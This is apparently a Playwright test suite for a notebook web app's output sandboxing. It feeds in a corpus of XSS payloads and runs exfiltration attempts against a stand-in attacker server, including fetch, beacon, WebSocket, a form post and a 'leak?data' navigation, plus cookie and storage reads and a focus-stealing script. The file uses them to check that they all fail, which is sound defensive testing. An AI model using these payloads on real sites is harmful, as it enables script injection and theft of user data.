"""Outputs of hostile code: nothing of them runs with the rights of the page, and their frames reach nothing."""

import base64
import http.server
import json
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.page.conftest import Open
from tests.page.driving import done, ready, run

RUNS = "window.top.pwned=1;window.parent.pwned=1;window.pwned=1"
"""What a script does that runs with the rights of the page; in a frame of its own it throws."""
CORPUS = [
    f"<img src=x onerror='{RUNS}'>",
    f"<svg onload='{RUNS}'><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin='{RUNS}' attributeName=x dur=1s></svg>",
    f"<a href='javascript:{RUNS}'>click</a>",
    f"[click](javascript:{RUNS})",
    f"<form action='javascript:{RUNS}'><button id=app name=body>x</button></form>",
    f"<iframe srcdoc='<script>{RUNS}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUNS}'></style></mglyph></table></mtext></math>",
    f"<details open ontoggle='{RUNS}'>x</details>",
    "<form name=body id=app><input name=querySelector><input name=attributes></form>",
    "<style>* { display: none !important }</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<object data='javascript:{RUNS}'></object><embed src='javascript:{RUNS}'>",
    f"$\\href{{javascript:{RUNS}}}{{x}}$ $\\includegraphics{{https://evil.example/x.png}}$ $\\htmlData{{a=b}}{{x}}$",
    f'![x](x" onerror="{RUNS})',
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
]


@pytest.fixture
def page(open_page: Open) -> Page:
    made = open_page()
    ready(made)
    return made


def test_nothing_runs_in_the_page(page: Page) -> None:
    """The corpus as Markdown, LaTeX, SVG, HTML, JavaScript, text, JSON, error and in escape sequences."""
    code = f"""
import json, base64
from IPython.display import display, Markdown, Latex, SVG, HTML, JSON, Javascript
corpus = json.loads(base64.b64decode({base64.b64encode(json.dumps(CORPUS).encode()).decode()!r}))
for text in corpus:
    display(Markdown(text), Latex(text), JSON({{text: text}}))
    display({{"image/svg+xml": text, "text/plain": text}}, raw=True)
    display({{"image/png": text}}, raw=True)
    display({{"text/html": text}}, raw=True)
    display({{"application/x-unknown" + text: text}}, raw=True)
    print(text, "\\x1b]8;;javascript:{RUNS}\\x07link\\x1b]8;;\\x07", "\\x1b]0;" + text + "\\x07")
display(Javascript({RUNS!r}))
class {"E" * 5}(Exception): pass
raise EEEEE("".join(corpus))
"""
    found = run(page, code)
    done(found, "failed")
    expect(found.locator("iframe.frame").last).to_be_attached()
    # Wherever links were left, they lead nowhere but to other sites.
    for address in page.evaluate("[...document.querySelectorAll('.outputs a')].map(a => a.getAttribute('href'))"):
        assert address is None or address.startswith(("https:", "http:", "mailto:", "#")), address
    inside = page.locator(".outputs")
    for tag in (
        "script",
        "style",
        "form",
        "object",
        "embed",
        "base",
        "meta",
        "svg:not(.katex svg)",
        "iframe:not(.frame)",
    ):
        expect(inside.locator(tag)).to_have_count(0)
    expect(inside.locator("[id]")).to_have_count(0)
    expect(inside.locator("[name]")).to_have_count(0)
    assert page.evaluate(
        "[...document.querySelectorAll('.outputs *')].every(e => ![...e.attributes].some(a => a.name.startsWith('on')))"
    )
    # Every frame has run what it had, and the page is what it was.
    for frame in page.frames[1:]:
        frame.evaluate("1")
    assert page.evaluate("window.pwned") is None
    expect(page.get_by_role("button", name="Restart")).to_be_visible()
    assert page.url.endswith("session=main") or "session=main" in page.url


@pytest.fixture
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A server of an attacker, and what was asked of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the name is that of the base class

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


ATTEMPTS = """
const tried = {};
const attempt = async (name, work) => {
  try { tried[name] = String(await work()); } catch (error) { tried[name] = "refused"; }
};
const loads = (tag, fields) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), fields);
  element.onload = () => resolve("loaded");
  element.onerror = () => reject("refused");
  document.body.append(element);
});
const socket = (address) => new Promise((resolve, reject) => {
  const made = new WebSocket(address);
  made.onopen = () => resolve("opened");
  made.onerror = () => reject("refused");
});
(async () => {
  await attempt("fetch", () => fetch("http://EVIL/fetch", {mode: "no-cors"}));
  await attempt("own server", () => fetch("OWN/api/sessions"));
  await attempt("beacon", () => { if (!navigator.sendBeacon("http://EVIL/beacon", "x")) throw 0; });
  await attempt("socket", () => socket("ws://EVIL/socket"));
  await attempt("own socket", () => socket("OWN/ws".replace("http", "ws")));
  await attempt("image", () => loads("img", {src: "http://EVIL/image"}));
  await attempt("own image", () => loads("img", {src: "OWN/icon.svg"}));
  await attempt("script", () => loads("script", {src: "http://EVIL/script"}));
  await attempt("style", () => loads("link", {rel: "stylesheet", href: "http://EVIL/style"}));
  await attempt("worker", () => new Promise((_, reject) => {
    new Worker("data:text/javascript,1").onerror = reject;
    setTimeout(reject, 500);
  }));
  await attempt("parent", () => parent.document.title);
  await attempt("parent's location", () => parent.location.href);
  await attempt("storage", () => localStorage.length);
  await attempt("cookies", () => document.cookie);
  await attempt("popup", () => { if (!window.open("http://EVIL/popup")) throw 0; });
  await attempt("top", () => { top.location = "http://EVIL/top"; });
  await attempt("dialog", () => { alert(1); throw 0; });
  await attempt("peer", () => new RTCPeerConnection());
  for (const message of [1e9, -5, NaN, {type: "run", code: "1"}, "close"]) parent.postMessage(message, "*");
  document.body.insertAdjacentHTML("beforeend", "<form action=http://EVIL/form method=post><button>b</button></form>");
  await attempt("form", () => { document.querySelector("form").submit(); throw 0; });
  const result = document.createElement("pre");
  result.id = "tried";
  result.textContent = JSON.stringify(tried);
  document.body.append(result);
})();
"""


def test_a_frame_reaches_nothing(page: Page, stranger: tuple[str, list[str]]) -> None:
    host, asked = stranger
    own = page.evaluate("location.origin")
    script = ATTEMPTS.replace("EVIL", host).replace("OWN", own)
    found = run(
        page, f"from IPython.display import HTML, display\ndisplay(HTML({f'<p>x</p><script>{script}</script>'!r}))"
    )
    done(found)
    told = found.frame_locator("iframe.frame").locator("#tried")
    expect(told).to_be_attached()
    tried = json.loads(told.text_content() or "")
    # These two say nothing of their failure.
    assert {name for name, outcome in tried.items() if outcome != "refused"} <= {"top", "beacon"}, tried
    assert len(tried) == len(set(tried)) == 19
    assert asked == []
    assert page.url.startswith(own)


def test_a_frame_cannot_go_elsewhere(page: Page, stranger: tuple[str, list[str]]) -> None:
    """Its own navigation would carry data out: the policy of the page forbids it."""
    host, asked = stranger
    html = f"<p>x</p><script>location.href = 'http://{host}/leak?data'</script>"
    done(run(page, f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"))
    refused = page.locator("iframe.frame")
    expect(refused).to_be_attached()
    # The browser shows an error of its own in the frame, which has nothing of the page.
    expect(refused.content_frame.locator("body.neterror")).to_be_attached()
    assert asked == []


TAKES = """
<input id=i autofocus><iframe id=f></iframe><script>
const i = document.getElementById('i'), f = document.getElementById('f');
setInterval(() => {
  f.contentWindow.focus.call(window);
  f.contentWindow.HTMLElement.prototype.focus.call(i);
}, 5);
</script>
"""
"""It has `focus` from another window, because that of its own does nothing."""


def test_a_frame_that_takes_the_keyboard_is_not_shown_any_more(page: Page) -> None:
    code = (
        f"from IPython.display import HTML, display\nname = input('Name? ')\ndisplay(HTML({TAKES!r}))\ninput('Word? ')"
    )
    found = run(page, code)
    found.get_by_label("Name?").fill("x")
    page.keyboard.press("Enter")
    expect(found.get_by_text("This output took the keyboard by itself")).to_be_visible()
    field = found.get_by_label("Word?")
    field.click()
    expect(field).to_be_focused()
    field.press_sequentially("a secret", delay=20)
    expect(field).to_have_value("a secret")


def test_a_person_may_type_into_a_frame(page: Page) -> None:
    html = "<input id=i><script>document.getElementById('i').focus(); window.focus()</script>"
    found = run(page, f"from IPython.display import HTML\nHTML({html!r})")
    done(found)
    inside = found.frame_locator("iframe.frame").locator("#i")
    expect(inside).to_be_attached()
    expect(inside).not_to_be_focused()
    box = page.locator("iframe.frame").bounding_box()
    assert box is not None
    page.mouse.move(box["x"] + 30, box["y"] + 15)
    expect(page.locator(".shield")).to_have_count(0)
    # The browser sends what is pressed to the frame as soon as it has drawn it without its shield.
    while not inside.evaluate("element => document.hasFocus() && document.activeElement === element"):
        page.mouse.down()
        page.mouse.up()
    page.wait_for_function("document.activeElement.tagName === 'IFRAME'")
    page.keyboard.type("by mouse")
    expect(inside).to_have_value("by mouse")
    found.get_by_role("button", name="Delete cell 1").focus()
    page.keyboard.press("Tab")
    expect(inside).to_be_focused()
    page.keyboard.type(" or keys")
    expect(inside).to_have_value(" or keys")  # what was there is selected by Tab
